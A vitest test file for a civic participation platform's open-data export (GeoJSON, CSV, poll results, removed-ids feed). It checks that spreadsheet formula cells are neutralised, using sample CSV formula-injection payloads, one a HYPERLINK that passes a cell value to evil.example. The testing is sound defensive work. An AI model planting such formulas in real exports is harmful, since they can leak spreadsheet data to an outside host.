/**
 * Open data per plan (issue 6): comments, thread outcomes and poll results as GeoJSON (RFC 7946) and CSV
 * (RFC 4180, BOM, formula cells neutralised), through the public gate, without personal data, positions rounded;
 * and the removed-ids feed.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordRemoval } from '../../server/src/domain/audit.js';
import { planBody, userWithRole, type RoleUser } from '../helpers/plans.js';
import { pollBody, startPollServer, testClock, votingPlan, type TestClock } from '../helpers/polls.js';
import type { TestServer } from '../helpers/server.js';

const PRECISION = 10;
const HOUR = 3600_000;

/** RFC 4180 parser (quoted cells, doubled quotes, CRLF), for checking what a spreadsheet would read. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** Distance in metres between two lon/lat points (equirectangular; fine at these distances). */
function metres(a: number[], b: number[]): number {
  const k = 111_320;
  const dx = (a[0]! - b[0]!) * k * Math.cos((b[1]! * Math.PI) / 180);
  const dy = (a[1]! - b[1]!) * k;
  return Math.hypot(dx, dy);
}

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', '+1', '-2', '@SUM(A1:A2)'];
const EXACT = { lon: 5.120345678, lat: 52.090456789, height: 3.37 };

describe('open data per plan', () => {
  let server: TestServer;
  let clock: TestClock;
  let planner: RoleUser;
  let anna: RoleUser;
  let bart: RoleUser;
  let planId: string;
  let draftId: string;
  let hiddenId: string;
  let replyId: string;
  let underHiddenId: string;
  let threadId: string;
  let laterPollId: string;
  let alwaysPollId: string;
  const commentIds: string[] = [];

  beforeAll(async () => {
    clock = testClock();
    server = await startPollServer(clock, { publicPositionPrecisionM: PRECISION });
    planner = await userWithRole(server, 'planner', 'Planner Petronella');
    anna = await userWithRole(server, 'resident', 'Anna Achternaamsma');
    bart = await userWithRole(server, 'resident', 'Bart Bijnaamstra');
    planId = await votingPlan(planner, ['vote', 'comment', 'cocreate']);
    draftId = (await planner.agent.request('POST', '/api/v1/plans', planBody())).body.plan.id;

    for (const [i, body] of [...INJECTIONS, 'Gewoon, met "aanhalingstekens"\nen een regel erbij'].entries()) {
      const r = await anna.agent.request('POST', '/api/v1/comments', { position: { ...EXACT, lon: EXACT.lon + i * 0.0001 }, body, planId });
      expect(r.status).toBe(201);
      commentIds.push(r.body.comment.id);
    }
    const hidden = await bart.agent.request('POST', '/api/v1/comments', { position: EXACT, body: 'Verborgen door moderatie', planId });
    hiddenId = hidden.body.comment.id;
    // A visible reply keeps the hidden comment as a placeholder in the read paths; open data has the reply only.
    underHiddenId = (await anna.agent.request('POST', '/api/v1/comments', { body: 'Antwoord onder verborgen reactie', parentId: hiddenId })).body.comment.id;
    await server.app.store.db.updateTable('comments').set({ hidden_at: new Date().toISOString() }).where('id', '=', hiddenId).execute();
    replyId = (await bart.agent.request('POST', '/api/v1/comments', { body: 'Een antwoord van Bart', parentId: commentIds[0] })).body.comment.id;

    const thread = await anna.agent.request('POST', '/api/v1/threads', { title: '=1+1 groen plein', text: 'Bomen', anchor: EXACT, planId });
    expect(thread.status).toBe(201);
    threadId = thread.body.thread.id;
    const hiddenThread = await bart.agent.request('POST', '/api/v1/threads', { title: 'Verborgen draad', text: 'Weg', anchor: EXACT, planId });
    await server.app.store.db.updateTable('threads').set({ hidden_at: new Date().toISOString() }).where('id', '=', hiddenThread.body.thread.id).execute();
    expect((await bart.agent.request('PUT', `/api/v1/threads/${threadId}/support`)).status).toBe(200);
    expect((await planner.agent.request('POST', `/api/v1/threads/${threadId}/posts`, { text: 'Wij nemen het mee', answer: true })).status).toBe(201);
    expect((await planner.agent.request('PATCH', `/api/v1/threads/${threadId}`, { status: 'adopted', reason: 'Past in het plan' })).status).toBe(200);

    const later = await planner.agent.request('POST', '/api/v1/polls', pollBody({ planId }, { question: 'Na sluiting zichtbaar?', resultsVisibility: 'after_close' }));
    laterPollId = later.body.poll.id;
    const always = await planner.agent.request('POST', '/api/v1/polls', pollBody({ planId }, { question: '-Altijd zichtbaar', resultsVisibility: 'always' }));
    alwaysPollId = always.body.poll.id;
    for (const [who, i] of [[anna, 0], [bart, 2]] as const) {
      for (const id of [laterPollId, alwaysPollId]) {
        const poll = id === laterPollId ? later.body.poll : always.body.poll;
        expect((await who.agent.request('PUT', `/api/v1/polls/${id}/ballot`, { choices: [poll.options[i].id] })).status).toBe(200);
      }
    }
  });
  afterAll(async () => {
    await server?.close();
  });

  const base = () => `/api/v1/plans/${planId}/open-data`;
  const FILES = ['comments.geojson', 'comments.csv', 'threads.geojson', 'threads.csv', 'polls.json', 'polls.csv'];

  it('has an index with title, generatedAt and links that all answer', async () => {
    const r = await server.agent().request('GET', base());
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ planId, title: 'Nieuwe wijk', positionPrecisionM: PRECISION, pollsWithHiddenResults: 1 });
    expect(Date.parse(r.body.generatedAt)).not.toBeNaN();
    const hrefs = r.body.links.map((l: any) => l.href);
    for (const f of FILES) expect(hrefs).toContain(`${base()}/${f}`);
    for (const l of r.body.links) expect((await server.agent().fetch(l.href)).status, l.href).toBe(200);
  });

  it('answers 404 for a draft plan (even to its planner) and for an unknown plan', async () => {
    for (const p of [draftId, 'no-such-plan']) {
      for (const f of ['', ...FILES.map((x) => `/${x}`)]) {
        expect((await planner.agent.request('GET', `/api/v1/plans/${p}/open-data${f}`)).status, `${p}${f}`).toBe(404);
      }
    }
  });

  it('comments.geojson: RFC 7946, visible comments and replies only, rounded [lon, lat, height]', async () => {
    const res = await server.agent().fetch(`${base()}/comments.geojson`);
    expect(res.headers.get('content-type')).toMatch(/^application\/geo\+json/);
    const fc = JSON.parse(await res.text());
    expect(fc.type).toBe('FeatureCollection');
    expect(fc).not.toHaveProperty('crs');
    const ids = fc.features.map((f: any) => f.id);
    expect(ids.sort()).toEqual([...commentIds, replyId, underHiddenId].sort());
    expect(ids).not.toContain(hiddenId);
    for (const f of fc.features) {
      expect(f.geometry.type).toBe('Point');
      expect(f.geometry.coordinates).toHaveLength(3);
      expect(Object.keys(f.properties).sort()).toEqual(['body', 'createdAt', 'id', 'kind', 'parentId', 'scenarioId']);
    }
    const first = fc.features.find((f: any) => f.id === commentIds[0]);
    const [lon, lat, h] = first.geometry.coordinates;
    expect(metres([lon, lat], [EXACT.lon, EXACT.lat])).toBeLessThanOrEqual(PRECISION);
    expect([lon, lat]).not.toEqual([EXACT.lon, EXACT.lat]);
    expect(h % PRECISION).toBe(0);
    expect(fc.features.find((f: any) => f.id === replyId).properties).toMatchObject({ kind: 'reply', parentId: commentIds[0] });
  });

  it('comments.csv: BOM, header, RFC 4180 quoting, formula cells neutralised, hidden comment absent', async () => {
    const res = await server.agent().fetch(`${base()}/comments.csv`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(['id', 'parent_id', 'scenario_id', 'created_at', 'body', 'lon', 'lat', 'height']);
    const bodies = rows.slice(1).map((r) => r[4]);
    for (const inj of INJECTIONS) expect(bodies).toContain(`'${inj}`);
    for (const b of bodies) expect(b).not.toMatch(/^[=+\-@\t\r]/);
    expect(bodies).toContain('Gewoon, met "aanhalingstekens"\nen een regel erbij');
    expect(rows.slice(1).map((r) => r[0])).not.toContain(hiddenId);
    expect(text).not.toContain('Verborgen door moderatie');
    expect(rows).toHaveLength(1 + commentIds.length + 2);
    for (const r of rows.slice(1)) expect(metres([Number(r[5]), Number(r[6])], [EXACT.lon, EXACT.lat])).toBeLessThan(100);
  });

  it('threads: outcome (status, reason, support, posts, answered) at a rounded anchor, title neutralised in CSV', async () => {
    const fc = JSON.parse(await (await server.agent().fetch(`${base()}/threads.geojson`)).text());
    expect(fc.features).toHaveLength(1); // the hidden thread is absent
    const f = fc.features[0];
    expect(f.id).toBe(threadId);
    expect(f.properties).toMatchObject({ title: '=1+1 groen plein', status: 'adopted', statusReason: 'Past in het plan', supportCount: 1, postCount: 1, answered: true });
    expect(f.geometry.type).toBe('Point');
    expect(metres(f.geometry.coordinates, [EXACT.lon, EXACT.lat])).toBeLessThanOrEqual(PRECISION);
    expect(f.geometry.coordinates).not.toEqual([EXACT.lon, EXACT.lat, EXACT.height]);
    const rows = parseCsv((await (await server.agent().fetch(`${base()}/threads.csv`)).text()).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(['id', 'title', 'status', 'status_reason', 'support_count', 'post_count', 'answered', 'created_at', 'lon', 'lat', 'height', 'anchor_type']);
    expect(rows[1]!.slice(0, 7)).toEqual([threadId, "'=1+1 groen plein", 'adopted', 'Past in het plan', '1', '1', 'true']);
  });

  it('holds no personal data in any file (no e-mail, display name or account id)', async () => {
    const needles = [anna, bart, planner].flatMap((u) => [u.email, u.displayName, u.id]);
    for (const f of ['', ...FILES.map((x) => `/${x}`)]) {
      const text = await (await server.agent().fetch(`${base()}${f}`)).text();
      for (const n of needles) expect(text, `${f} ${n}`).not.toContain(n);
    }
  });

  it('polls: only results the public may see now; after closing the others appear (server clock)', async () => {
    let json = (await server.agent().request('GET', `${base()}/polls.json`)).body;
    expect(json.polls.map((p: any) => p.id)).toEqual([alwaysPollId]);
    expect(json.polls[0]).toMatchObject({ question: '-Altijd zichtbaar', ballots: 2, final: false });
    expect(json.polls[0].options.map((o: any) => o.votes)).toEqual([1, 0, 1]);
    let rows = parseCsv((await (await server.agent().fetch(`${base()}/polls.csv`)).text()).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(['poll_id', 'question', 'closes_at', 'final', 'ballots', 'option_id', 'option', 'votes']);
    expect(rows.slice(1).every((r) => r[0] === alwaysPollId && r[1] === "'-Altijd zichtbaar")).toBe(true);
    expect(rows).toHaveLength(4);

    clock.at = Date.now() + 2 * HOUR; // both polls closed
    json = (await server.agent().request('GET', `${base()}/polls.json`)).body;
    expect(json.polls.map((p: any) => p.id).sort()).toEqual([alwaysPollId, laterPollId].sort());
    expect(json.polls.every((p: any) => p.final)).toBe(true);
    rows = parseCsv((await (await server.agent().fetch(`${base()}/polls.csv`)).text()).replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(7);
    expect((await server.agent().request('GET', base())).body.pollsWithHiddenResults).toBe(0);
    clock.at = null;
  });
});

describe('removed-ids feed', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startPollServer(testClock());
  });
  afterAll(async () => {
    await server?.close();
  });

  it('lists hidden, removed and redacted ids at or after `since`, oldest first, in keyset pages; draft-plan entries left out', async () => {
    const planner = await userWithRole(server, 'planner');
    const publicPlan = await votingPlan(planner);
    const draft = (await planner.agent.request('POST', '/api/v1/plans', planBody())).body.plan.id;
    const db = server.app.store.db;
    const t0 = Date.parse('2026-03-01T10:00:00.000Z');
    const at = (min: number) => new Date(t0 + min * 60_000).toISOString();
    await recordRemoval(db, { kind: 'comment', id: 'old', planId: null, action: 'hidden', at: at(-10) });
    await recordRemoval(db, { kind: 'comment', id: 'c1', planId: publicPlan, action: 'hidden', at: at(0) });
    await recordRemoval(db, { kind: 'thread', id: 't1', planId: null, action: 'removed', at: at(5) });
    await recordRemoval(db, { kind: 'reply', id: 'd1', planId: draft, action: 'hidden', at: at(6) });
    await recordRemoval(db, { kind: 'post', id: 'p1', planId: null, action: 'redacted', at: at(7) });
    await recordRemoval(db, { kind: 'sketch', id: 's1', planId: null, action: 'hidden', at: at(7) });

    const anon = server.agent();
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const q: string = `/api/v1/open-data/removed?since=${encodeURIComponent(at(0))}&limit=2${cursor ? `&cursor=${cursor}` : ''}`;
      const r = await anon.request('GET', q);
      expect(r.status).toBe(200);
      expect(r.body.items.length).toBeLessThanOrEqual(2);
      for (const i of r.body.items) seen.push(`${i.kind}:${i.id}:${i.action}`);
      cursor = r.body.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(pages).toBe(2);
    expect(seen.slice(0, 2)).toEqual(['comment:c1:hidden', 'thread:t1:removed']);
    expect(seen.slice(2).sort()).toEqual(['post:p1:redacted', 'sketch:s1:hidden']);

    const all = (await anon.request('GET', `/api/v1/open-data/removed?since=2026-03-01T11:00:00%2B01:00`)).body.items.map((i: any) => i.id);
    expect(all.slice(0, 2)).toEqual(['c1', 't1']); // an offset `since` is the same instant as 10:00Z
    expect(all.slice(2).sort()).toEqual(['p1', 's1']);
    expect((await anon.request('GET', '/api/v1/open-data/removed')).status).toBe(400);
    expect((await anon.request('GET', '/api/v1/open-data/removed?since=2026-03-01T00:00:00Z&cursor=nonsense')).status).toBe(400);
  });
});
